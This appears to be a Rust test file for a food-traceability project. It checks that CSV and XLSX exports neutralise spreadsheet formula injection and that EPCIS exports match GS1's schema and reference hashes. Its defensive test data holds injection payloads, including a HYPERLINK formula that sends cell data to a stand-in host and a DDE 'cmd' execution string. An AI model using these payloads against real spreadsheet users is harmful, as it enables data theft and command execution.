//! Exports: what other organisations wrote never becomes a formula.

use calamine::{Data, Reader, Xlsx};
use filiera_sheet::export::{CsvExport, ExportEvent, ExportLot, csv, neutralise, xlsx};
use std::io::Cursor;

/// Notes a receiver could have written on chain to attack whoever opens the
/// export in a spreadsheet.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
];

fn lots() -> Vec<ExportLot> {
    vec![ExportLot {
        gtin: "08012345000012".into(),
        lot: "CU-2026-001".into(),
        status: "active".into(),
        quantity: 90,
        initial_quantity: 120,
        owner: "caseificio-montefeltro".into(),
        holder: "caseificio-montefeltro".into(),
        site: Some("8012345000104".into()),
        created_ms: 1_796_601_600_000,
        history: HOSTILE
            .iter()
            .enumerate()
            .map(|(i, note)| ExportEvent {
                seq: i as u64,
                kind: "storing".into(),
                by: "=cmd".into(),
                height: 10 + i as u64,
                time_ms: 1_796_601_600_000 + i as u64,
                quantity_delta: -30,
                site: None,
                note: (*note).into(),
            })
            .collect(),
        inputs: vec![],
    }]
}

#[test]
fn a_csv_cell_that_would_be_a_formula_is_plain_text() -> anyhow::Result<()> {
    let bytes = csv(CsvExport::Events, &lots(), b';')?;
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "Excel reads accents");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&bytes[3..]);
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
    assert_eq!(rows.len(), HOSTILE.len());
    for (row, note) in rows.iter().zip(HOSTILE) {
        assert_eq!(&row[8], format!("'{note}"), "note neutralised");
        assert_eq!(&row[5], "'=cmd", "organisation neutralised");
        assert_eq!(&row[6], "-30", "a number the node computed stays a number");
        assert_eq!(&row[4][..19], "2026-12-07T00:00:00");
    }
    for cell in rows
        .iter()
        .flat_map(|r| r.iter().map(str::to_owned).collect::<Vec<_>>())
    {
        let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
            || (cell.starts_with('-') && cell.parse::<i64>().is_err());
        assert!(!risky, "cell {cell:?} would be read as a formula");
    }
    assert_eq!(neutralise("Casciotta d'Urbino"), "Casciotta d'Urbino");
    let lots_csv = String::from_utf8(csv(CsvExport::Lots, &lots(), b',')?)?;
    assert!(
        lots_csv.contains("\"08012345000012\",\"CU-2026-001\",\"active\",\"90\",\"120\","),
        "{lots_csv}"
    );
    // Opened with the other separator, a note stays one cell.
    let mut split = lots();
    split[0].history.truncate(1);
    split[0].history[0].note = "ok,=cmd|' /C calc'!A0".into();
    let events_csv = String::from_utf8(csv(CsvExport::Events, &split, b';')?)?;
    assert!(
        events_csv.contains(";\"ok,=cmd|' /C calc'!A0\";"),
        "{events_csv}"
    );
    Ok(())
}

#[test]
fn an_xlsx_export_holds_strings_and_numbers_never_formulas() -> anyhow::Result<()> {
    let bytes = xlsx(&lots(), 1_796_601_600_000)?;
    let mut workbook = Xlsx::new(Cursor::new(bytes))?;
    assert_eq!(workbook.sheet_names(), vec!["lots", "events"]);
    let events = workbook.worksheet_range("events")?;
    let notes: Vec<&Data> = events.rows().skip(1).map(|r| &r[8]).collect();
    assert_eq!(
        notes,
        HOSTILE
            .iter()
            .map(|n| Data::String((*n).into()))
            .collect::<Vec<_>>()
            .iter()
            .collect::<Vec<_>>()
    );
    assert_eq!(
        events.rows().nth(1).map(|r| r[6].clone()),
        Some(Data::Float(-30.0))
    );
    let formulas = workbook.worksheet_formula("events")?;
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell is a formula"
    );
    Ok(())
}

/// Runs one of the repository's outside checks (GS1's schema, GS1's hash
/// reference) on `path`; `None` when the tool is absent and not required.
fn outside(script: &str, path: &std::path::Path) -> Option<std::process::Output> {
    let path_of_script = format!("{}/../../scripts/{script}", env!("CARGO_MANIFEST_DIR"));
    let out = std::process::Command::new("python3")
        .arg(&path_of_script)
        .arg(path)
        .output()
        .ok();
    match out {
        Some(out)
            if out.status.code() != Some(3)
                && !String::from_utf8_lossy(&out.stderr).contains("ModuleNotFoundError") =>
        {
            Some(out)
        }
        _ => {
            assert!(
                std::env::var_os("FILIERA_REQUIRE_TOOLS").is_none(),
                "{script} needs its tools (FILIERA_REQUIRE_TOOLS is set)"
            );
            eprintln!("{script}: tools missing, check skipped");
            None
        }
    }
}

/// GS1's schema accepts `doc`, and GS1's reference implementation of the
/// event hash gives every event its `eventID`.
fn gs1_checks(doc: &serde_json::Value) -> anyhow::Result<()> {
    let file = tempfile::Builder::new().suffix(".jsonld").tempfile()?;
    std::fs::write(file.path(), doc.to_string())?;
    if let Some(out) = outside("epcis-schema-check.py", file.path()) {
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
    if let Some(out) = outside("epcis-reference-hashes.py", file.path()) {
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let reference: serde_json::Value = serde_json::from_slice(&out.stdout)?;
        let events = doc["epcisBody"]["eventList"].as_array().expect("events");
        let ids: Vec<&serde_json::Value> = events.iter().map(|e| &e["eventID"]).collect();
        let theirs: Vec<&serde_json::Value> = reference["hashes"]
            .as_array()
            .expect("hashes")
            .iter()
            .collect();
        assert_eq!(ids, theirs, "eventIDs are GS1's reference hashes");
    }
    Ok(())
}

#[test]
fn the_epcis_export_is_valid_and_its_ids_are_gs1_reference_hashes() -> anyhow::Result<()> {
    let mut lots = lots();
    lots[0].history[0].kind = "commissioning".into();
    lots[0].history[1].kind = "releasing".into();
    lots[0].history[2].site = Some("8012345000104".into());
    lots[0].lot = "CU/2026%1".into();
    let doc = filiera_sheet::epcis::document(&lots, 1_796_601_600_000)?;
    let events = doc["epcisBody"]["eventList"].as_array().expect("events");
    assert_eq!(events.len(), HOSTILE.len());
    assert_eq!(events[0]["action"], "ADD");
    assert_eq!(events[1]["bizStep"], "urn:filiera:bizstep:releasing");
    assert_eq!(events[2]["bizStep"], "storing");
    assert_eq!(
        events[2]["quantityList"][0],
        serde_json::json!({"epcClass": "https://id.gs1.org/01/08012345000012/10/CU%2F2026%251", "quantity": 30}),
        "the lot percent-encoded in the Digital Link"
    );
    // The node would take it back: every event valid, every ID its hash.
    let parsed = filiera_epcis::parse_document(doc.to_string().as_bytes())
        .map_err(|e| anyhow::anyhow!("{e:?}"))?;
    assert_eq!(parsed.events.len(), HOSTILE.len());

    gs1_checks(&doc)
}

/// A lot of milk and the cheese made from it, as the node shows them.
fn milk_into_cheese() -> Vec<ExportLot> {
    let event = |seq, kind: &str, height, delta| ExportEvent {
        seq,
        kind: kind.into(),
        by: "caseificio-montefeltro".into(),
        height,
        time_ms: 1_796_601_600_000 + height * 1000,
        quantity_delta: delta,
        site: Some("8012345000104".into()),
        note: String::new(),
    };
    let lot = |gtin: &str, number: &str, history, inputs| ExportLot {
        gtin: gtin.into(),
        lot: number.into(),
        owner: "caseificio-montefeltro".into(),
        holder: "caseificio-montefeltro".into(),
        history,
        inputs,
        ..Default::default()
    };
    let input = |gtin: &str, number: &str| filiera_sheet::export::ExportInput {
        gtin: gtin.into(),
        lot: number.into(),
    };
    vec![
        lot(
            "08012345000029",
            "LO-1",
            vec![
                event(0, "commissioning", 5, 200),
                event(1, "transforming", 9, -200),
            ],
            vec![],
        ),
        lot(
            "08012345000012",
            "CU-9",
            vec![event(0, "transforming", 9, 30), event(1, "storing", 12, 0)],
            // Another dairy's cow milk went in too: named, not counted.
            vec![
                input("08012345000029", "LO-1"),
                input("08012345000036", "LV-7"),
            ],
        ),
    ]
}

#[test]
fn a_transformation_is_one_transformation_event_from_inputs_to_outputs() -> anyhow::Result<()> {
    let lots = milk_into_cheese();
    let doc = filiera_sheet::epcis::document(&lots, 1_796_601_600_000)?;
    let events = doc["epcisBody"]["eventList"].as_array().expect("events");
    let kinds: Vec<&str> = events.iter().map(|e| e["type"].as_str().unwrap()).collect();
    // The milk's commissioning and the cheese's storing stay object events;
    // the two sides of the cheesemaking are one transformation.
    assert_eq!(
        kinds,
        ["ObjectEvent", "TransformationEvent", "ObjectEvent"],
        "in time order: {doc}"
    );
    let t = &events[1];
    assert_eq!(
        t["inputQuantityList"],
        serde_json::json!([
            {"epcClass": "https://id.gs1.org/01/08012345000029/10/LO-1", "quantity": 200},
            {"epcClass": "https://id.gs1.org/01/08012345000036/10/LV-7"},
        ])
    );
    assert_eq!(
        t["outputQuantityList"],
        serde_json::json!([{"epcClass": "https://id.gs1.org/01/08012345000012/10/CU-9", "quantity": 30}])
    );
    assert_eq!(t["bizStep"], "urn:filiera:bizstep:transforming");
    assert_eq!(
        t["bizLocation"]["id"],
        "https://id.gs1.org/414/8012345000104"
    );
    let parsed = filiera_epcis::parse_document(doc.to_string().as_bytes())
        .map_err(|e| anyhow::anyhow!("{e:?}"))?;
    assert_eq!(parsed.events.len(), 3);

    gs1_checks(&doc)
}

#[test]
fn a_lot_drawn_by_two_transformations_of_one_block_claims_no_quantity_in_either()
-> anyhow::Result<()> {
    let mut lots = milk_into_cheese();
    // In the same block, the milk also went alone into a second cheese.
    lots[0].history[1].quantity_delta = -260;
    let mut second = lots[1].clone();
    second.lot = "CU-10".into();
    second.history[0].quantity_delta = 9;
    second.history.truncate(1);
    second.inputs = vec![filiera_sheet::export::ExportInput {
        gtin: "08012345000029".into(),
        lot: "LO-1".into(),
    }];
    lots.push(second);
    let doc = filiera_sheet::epcis::document(&lots, 1_796_601_600_000)?;
    let events = doc["epcisBody"]["eventList"].as_array().expect("events");
    let made: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["type"] == "TransformationEvent")
        .collect();
    assert_eq!(made.len(), 2, "{doc}");
    for t in made {
        let milk = &t["inputQuantityList"][0];
        assert_eq!(
            milk["epcClass"],
            "https://id.gs1.org/01/08012345000029/10/LO-1"
        );
        assert!(milk.get("quantity").is_none(), "{t}");
    }
    gs1_checks(&doc)
}
